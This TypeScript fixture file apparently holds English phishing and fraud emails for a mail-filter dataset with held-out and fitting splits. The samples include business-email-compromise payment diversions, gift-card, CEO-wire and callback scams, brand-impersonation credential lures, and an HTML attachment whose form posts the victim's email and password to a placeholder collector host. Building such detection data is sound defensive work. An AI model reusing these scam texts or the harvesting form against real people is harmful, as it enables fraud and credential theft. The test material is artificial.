import { google, hosted, microsoft365 } from '../../carriers.ts';
import { button, letter, link, note } from '../../letter.ts';
import type { Family } from '../family.ts';

const look = { font: 'Helvetica, Arial, sans-serif', lang: 'en' };

/** English fraud from taken-over accounts, own domains and free mail: all of it authenticated. */
export const englishSenders: Family[] = [
  {
    family: 'fraud in English, hijacked account of a business partner',
    split: 'held',
    mails: [
      {
        name: 'fraud: new bank details in a running thread',
        from: 'Accounts, Hollis Freight <accounts@hollis-freight.example>',
        via: microsoft365(),
        zone: '+0000',
        subject: 'Re: Re: Invoice 20418 overdue',
        text: `Hi Taro,

Please hold the payment to our old account, it is currently under audit and any transfer will bounce.
Kindly remit the $48,210.00 to our subsidiary account below today and send me the swift copy.

Beneficiary: HF Global Trade Ltd
IBAN: GB00EXMP00000012345678

I am in meetings all day so email is best.

Regards,
Dana

> Taro Yamada wrote:
> We will pay invoice 20418 this week.
`,
      },
      {
        name: 'fraud: secure document, hijacked law firm',
        from: 'Margaret Oyelaran <moyelaran@oyelaran-law.example>',
        via: microsoft365(),
        zone: '-0500',
        subject: 'Margaret Oyelaran shared "Settlement Agreement" with you',
        html: note(
          [
            'Please see the attached settlement agreement, sent to you securely via OneDrive.',
            '<a href="https://oyelaran-secure.netlify.app/?e=taro@example.com">OPEN DOCUMENT</a>',
            'You will be asked to sign in with your business email to confirm your identity.',
            'This link will expire in 24 hours.',
            'Margaret Oyelaran, Esq.',
          ],
          'Calibri, sans-serif',
        ),
      },
      {
        name: 'fraud: gift cards, hijacked pastor',
        from: 'Pastor Glenn <glenn@riverside-chapel.example>',
        via: google(),
        zone: '-0600',
        subject: 'Quick favor',
        text: `Are you available? I need you to pick up some Apple gift cards for a member who is in hospital, $100 x 5.
I can't talk right now, just email me pictures of the codes on the back. I will reimburse you tonight. God bless
`,
      },
      {
        name: 'fraud: payroll change, hijacked employee',
        from: 'Kevin Doyle <kevin.doyle@marsh-logistics.example>',
        to: 'hr@marsh-logistics.example',
        receiver: 'microsoft',
        via: microsoft365(),
        zone: '+0000',
        subject: 'Direct deposit update',
        text: `Hi,

I changed banks and would like my salary to go to the new account before the next payroll. Can it be done today?
What details do you need? I can only reply by email this week.

Kevin
`,
      },
      {
        name: 'fraud: mailbox storage, hijacked university account',
        from: 'IT HELP DESK <j.farrow@northfield-university.example>',
        via: microsoft365(),
        zone: '-0500',
        subject: 'Your mailbox has exceeded its storage limit',
        html: note(
          [
            'Dear user,',
            'Your mailbox has exceeded its storage limit and you will not be able to receive new mail. Validate your mailbox within 12 hours to avoid deactivation.',
            '<a href="https://helpdesk-owa.weebly.com/">CLICK HERE TO VALIDATE</a>',
            'ITS Help Desk, System Administrator 2026',
          ],
          'Calibri',
        ),
      },
    ],
  },
  {
    family: 'fraud in English, hijacked site of a hosting customer',
    split: 'fitting',
    mails: [
      {
        name: 'fraud: DHL through a bakery',
        from: 'DHL Express <info@oldmill-bakery.example>',
        via: hosted('server412.web-hosting.example', 'X-Mailer: PHPMailer 5.2.28'),
        zone: '+0000',
        subject: 'Your parcel is on hold: pay the customs fee',
        html: letter(
          [
            'Dear customer,',
            'Your parcel JD014600006281 could not be delivered because a customs fee of $2.99 is unpaid. Pay within 48 hours or it will be returned.',
            button('https://oldmill-bakery.example/wp-includes/dhl/track.php', 'Pay now', '#d40511'),
          ],
          { ...look, foot: 'DHL International GmbH' },
        ),
      },
      {
        name: 'fraud: Netflix through a yoga studio',
        from: 'Netflix <wordpress@lotus-yoga.example>',
        via: hosted('host77.web-hosting.example'),
        zone: '-0700',
        subject: 'Your membership has been suspended',
        html: letter(
          [
            "We're having trouble with your current billing information. Your account will be cancelled in 24 hours if you do not update your card.",
            button('https://lotus-yoga.example/.well-known/nf/', 'Restart membership', '#e50914'),
          ],
          { ...look, foot: 'Netflix International B.V.' },
        ),
      },
      {
        name: 'fraud: cPanel through another customer',
        from: 'cPanel Webmail <sales@tilehouse.example>',
        via: hosted('srv9.web-hosting.example'),
        zone: '+0000',
        subject: '[cPanel] 7 incoming messages pending on example.com',
        html: note(
          [
            'Hello info,',
            '7 messages failed to reach your inbox due to a server sync error. Release them below before they are deleted.',
            '<a href="https://pub-0a1b2c3d.r2.dev/index.html#info@example.com">Release pending messages to inbox</a>',
            'Source: example.com Webmail Administrator',
          ],
          'Verdana',
        ),
      },
      {
        name: 'fraud: PayPal through a garage',
        from: 'PayPal Service <office@dales-garage.example>',
        via: hosted('gator2211.web-hosting.example'),
        zone: '-0600',
        subject: 'We noticed unusual activity on your account',
        html: letter(
          [
            'Dear Customer,',
            'Your account access has been limited. To restore it, confirm your identity and card information.',
            `<p>${link('https://dales-garage.example/cgi/pp/', 'https://www.paypal.com/signin')}</p>`,
            'Failure to do so within 24 hours will result in permanent suspension.',
          ],
          { ...look, foot: 'Copyright © 1999-2026 PayPal' },
        ),
      },
      {
        name: 'fraud: purchase order with an HTML file, through a trading company',
        from: 'Purchasing, Al Noor Trading <purchase@alnoor-trading.example>',
        via: hosted('mail.alnoor-trading.example'),
        zone: '+0400',
        subject: 'PO-88120 urgent order, confirm price',
        text: `Dear Sir,

Kindly find attached our urgent purchase order and send your best price and delivery time today.
Open the attachment and log in with your email to view the order.

Best regards
`,
        attachments: [
          {
            filename: 'PO-88120.html',
            type: 'text/html',
            content:
              '<html><body><form action="https://api-collect.example/p.php" method="post"><input name="email" value="info@example.co.jp"><input type="password" name="pass"><button>View document</button></form></body></html>',
          },
        ],
      },
    ],
  },
  {
    family: 'fraud in English, domain that it owns',
    split: 'held',
    mails: [
      {
        name: 'fraud: Microsoft on a lookalike',
        from: 'Microsoft 365 <no-reply@micros0ft-365.example>',
        zone: '-0800',
        subject: 'Action required: your password expires today',
        html: letter(
          [
            'taro@example.com,',
            'Your Microsoft 365 password expires today. Keep your current password to avoid losing access to email.',
            button(
              'https://login.micros0ft-365.example/common/oauth2?u=taro@example.com',
              'Keep current password',
              '#0067b8',
            ),
          ],
          { font: "'Segoe UI'", lang: 'en', foot: 'Microsoft Corporation, One Microsoft Way, Redmond, WA' },
        ),
      },
      {
        name: 'fraud: bank on a lookalike',
        from: 'Chase Alerts <alerts@chase-secure-verify.example>',
        zone: '-0500',
        subject: 'Your account has been locked',
        html: letter(
          [
            'Dear Valued Customer,',
            'We locked your account after several failed sign-in attempts. Verify your identity now to regain access.',
            button('https://chase-secure-verify.example/auth', 'Unlock my account', '#117aca'),
          ],
          { ...look, foot: 'JPMorgan Chase Bank, N.A.' },
        ),
      },
      {
        name: 'fraud: parcel on a random domain',
        from: 'USPS <tracking@xkpwqz.example>',
        zone: '-0500',
        subject: 'Delivery attempt failed: incomplete address',
        text: `Your package could not be delivered because of an incomplete address.
Update your address and pay the $0.30 redelivery fee within 24 hours:

https://xkpwqz.example/usps

U.S. Postal Service
`,
      },
      {
        name: 'fraud: wallet on a random domain',
        from: 'MetaMask Support <support@gwtrbl.example>',
        zone: '+0000',
        subject: 'Verify your wallet before November 20',
        html: letter(
          [
            'All wallets must be verified to comply with new regulations. Unverified wallets will be restricted.',
            button('https://gwtrbl.example/kyc', 'Verify my wallet', '#f6851b'),
            'You will need your 12-word Secret Recovery Phrase.',
          ],
          look,
        ),
      },
      {
        name: 'fraud: subscription renewed, telephone',
        from: 'Geek Protection Billing <billing@geekprotect-orders.example>',
        zone: '-0500',
        subject: 'Order confirmation GP-99812: $449.99 charged',
        text: `Dear customer,

Your Total Protection plan has been renewed for 3 years. $449.99 will be charged to your account within 24 hours.
If you did not authorise this, call +1 (555) 010-0199 immediately to cancel and get a refund.

Billing department
`,
      },
    ],
  },
  {
    family: 'fraud in English, free mail',
    split: 'fitting',
    mails: [
      {
        name: 'fraud: invoice of Norton from Gmail',
        from: 'Norton LifeLock <nortonbilling88120@gmail.com>',
        via: google(),
        zone: '-0500',
        subject: 'Invoice NRT-20418 paid successfully',
        text: `Thank you for your purchase. $399.99 has been auto-debited for Norton 360 (3 devices).
Did not order? Contact our helpline within 24 hrs: +1 (555) 010-0147. Our technician will help you with the refund.
`,
      },
      {
        name: 'fraud: chief executive from Gmail',
        from: 'Helen Marsh <ceo.office.private1@gmail.com>',
        to: 'taro@marsh-logistics.example',
        receiver: 'microsoft',
        via: google(),
        zone: '+0000',
        subject: 'Confidential task',
        text: `Taro, I need you to handle a wire of 38,400 GBP to a new vendor today. It is confidential, don't discuss it with anyone
until it's done. Confirm you can do it and I'll send the bank details. Helen
`,
      },
      {
        name: 'fraud: bank of Meta pages from Gmail',
        from: 'Meta Business Support <metabusiness.help.case771@gmail.com>',
        via: google(),
        zone: '+0000',
        subject: 'Your page will be unpublished in 24 hours',
        html: note(
          [
            'Your page violates our community standards. If you believe this is a mistake, submit an appeal within 24 hours.',
            '<a href="https://meta-appeal-77120.vercel.app/">Submit an appeal</a>',
            'Case #77120-3',
          ],
          'Arial',
        ),
      },
      {
        name: 'fraud: lottery from Outlook.com',
        from: 'Google Award Team <googleaward.claims@outlook.com>',
        via: microsoft365(),
        zone: '+0100',
        subject: 'Your e-mail won $950,000.00',
        text: `Dear winner,

Your e-mail address was selected. To claim, send your full name, address, phone, age, occupation and a copy of your ID.
A processing fee of $120 applies. Keep this confidential until your claim is processed.
`,
      },
      {
        name: 'fraud: job with cheques from Yahoo',
        from: 'Career Desk <careerdesk.hiring@yahoo.com>',
        zone: '-0500',
        subject: 'Work from home: $600 weekly',
        text: `You have been selected as a payment assistant. We send you a check, you keep $600 and forward the rest in Bitcoin.
Reply with your name, address, bank name and cell number to start today.
`,
      },
    ],
  },
];
